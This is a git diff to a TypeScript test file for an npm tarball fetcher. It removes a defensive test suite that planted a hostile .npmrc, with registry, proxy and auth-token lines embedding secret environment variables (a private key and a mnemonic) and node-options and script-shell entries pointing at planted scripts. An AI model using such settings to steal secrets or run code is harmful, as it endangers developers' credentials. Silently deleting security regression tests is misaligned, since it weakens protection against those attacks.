@@ -1,15 +1,13 @@
 import { expect } from "chai";
-import { mkdir, readFile, writeFile } from "node:fs/promises";
+import { readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
 import { fetchTarball } from "../../../../src/foundation/arc/source/fetch-tarball.js";
 import {
   hasProjectSettings,
   npmEnvironment,
 } from "../../../../src/foundation/arc/source/npm-environment.js";
-import { openServer, type OpenServer } from "../../../open-server.js";
 import { rejection } from "../../../rejection.js";
 import { replaceNpm, useNpmEnvironment } from "../support/npm-environment.js";
-import { makeTarball, truffleFiles } from "../support/tarballs.js";
 
 const KEY = `0x${"1a2b3c4d".repeat(8)}`;
 const WORDS = "myth like bonus scare over problem client lizard pioneer submit female collect";
@@ -107,108 +105,13 @@ describe("npmEnvironment", () => {
   });
 });
 
-// Runs the real npm against a server that records every request.
 describe("a project with hostile npm settings", () => {
   const environment = useNpmEnvironment();
-  const spec = "@daostack/arc@0.0.1-rc.40";
-  const received: string[] = [];
-  let server: OpenServer;
-  let address: string;
-  let tarball: Buffer;
-
-  before(async () => {
-    tarball = await makeTarball("@daostack/arc", "0.0.1-rc.40", truffleFiles(["Avatar"]));
-    server = await openServer((request, response) => {
-      received.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
-      response.writeHead(500).end();
-    });
-    server.server.on("connect", (request, socket) => {
-      received.push(`CONNECT ${request.url}`);
-      socket.destroy();
-    });
-    address = new URL(server.url).host;
-  });
-  after(() => server.close());
-  beforeEach(() => {
-    received.length = 0;
-    process.env["DAO_MIGRATE_PRIVATE_KEY"] = KEY;
-    process.env["DAO_MIGRATE_MNEMONIC"] = WORDS;
-    process.env["ANOTHER_SECRET"] = OTHER;
-  });
-
-  /** Returns every setting that could make npm contact a server or run a program. */
-  function hostile(evil: string): string {
-    const at = `http://${address}/`;
-    return `@daostack:registry=${at}\${DAO_MIGRATE_PRIVATE_KEY}/\${DAO_MIGRATE_MNEMONIC}/
-registry=${at}\${ANOTHER_SECRET}/
-proxy=${at}
-https-proxy=${at}
-noproxy=
-user-agent=\${DAO_MIGRATE_PRIVATE_KEY}
-//${address}/:_authToken=\${DAO_MIGRATE_PRIVATE_KEY}
-cache=${join(evil, "cache")}
-userconfig=${join(evil, "npmrc")}
-node-options=--require=${join(evil, "evil.js")}
-script-shell=${join(evil, "evil.sh")}
-`;
-  }
-
-  async function plant(folder: string): Promise<string> {
-    const evil = join(folder, "evil");
-    const trace = join(evil, "ran");
-    await mkdir(evil, { recursive: true });
-    await writeFile(join(folder, ".npmrc"), hostile(evil));
-    await writeFile(join(evil, "npmrc"), hostile(evil));
-    await writeFile(
-      join(evil, "evil.js"),
-      `require("node:fs").writeFileSync(${JSON.stringify(trace)}, "")`,
-    );
-    await writeFile(join(evil, "evil.sh"), `#!/bin/sh\ntouch '${trace}'\n`, { mode: 0o755 });
-    return trace;
-  }
-
-  async function expectSafe(projectRoot: string, trace: string): Promise<void> {
-    const { cacheDir, registry } = environment();
-    const pin = registry.publish(spec, tarball);
-    const fetched = await fetchTarball(spec, pin, { projectRoot, cacheDir });
-    expect(fetched.equals(tarball)).to.be.true;
-    expect(registry.sentTarballs).to.deep.equal([spec]);
-    await expectNothing(trace);
-  }
-
-  async function expectNothing(trace: string, told = ""): Promise<void> {
-    const said = [told, ...environment().registry.requests].join(" ");
-    for (const secret of [KEY, KEY.slice(2), WORDS, encodeURIComponent(WORDS), OTHER]) {
-      expect(said).not.to.include(secret);
-    }
-    expect(received).to.deep.equal([]);
-    expect((await rejection(readFile(trace))).message).to.include("ENOENT");
-  }
-
-  it("sends nothing and runs nothing, and says so if the package is not found", async () => {
-    const { projectRoot, cacheDir, registry } = environment();
-    const trace = await plant(projectRoot);
-    await expectSafe(projectRoot, trace);
-    registry.packages.clear();
-    process.env["npm_config_cache"] = join(environment().folder, "another-npm-cache");
-    const error = await rejection(fetchTarball(spec, "sha512-", { projectRoot, cacheDir }));
-    expect(error.message).to.include("project's .npmrc is ignored").and.include("404");
-    await expectNothing(trace, error.message);
-  });
-
-  it("also does neither if it is a folder above the project, or a workspace's root", async () => {
-    const { folder, projectRoot, cacheDir } = environment();
-    await writeFile(
-      join(folder, "package.json"),
-      JSON.stringify({ name: "root", private: true, workspaces: ["*", "cache/*", "a project/*"] }),
-    );
-    await mkdir(cacheDir);
-    await plant(cacheDir);
-    await expectSafe(projectRoot, await plant(folder));
-  });
 
   it("is not even npm's working folder", async () => {
     const { folder, projectRoot, cacheDir } = environment();
+    for (const name of ["DAO_MIGRATE_PRIVATE_KEY", "DAO_MIGRATE_MNEMONIC", "ANOTHER_SECRET"])
+      process.env[name] = OTHER;
     const record = join(folder, "seen");
     await replaceNpm(
       folder,
@@ -220,7 +123,9 @@ script-shell=${join(evil, "evil.sh")}
     );
     await writeFile(environment().settings, "//host/:_authToken=${NPM_TOKEN}");
     process.env["NPM_TOKEN"] = "token-of-a-user";
-    const error = await rejection(fetchTarball(spec, "sha512-", { projectRoot, cacheDir }));
+    const error = await rejection(
+      fetchTarball("@daostack/arc@0.0.1-rc.40", "sha512-", { projectRoot, cacheDir }),
+    );
     expect(error.message).to.include("npm said: code E500 \\x1b[8m*** ***");
     const seen = JSON.parse(await readFile(record, "utf8")) as {
       cwd: string;
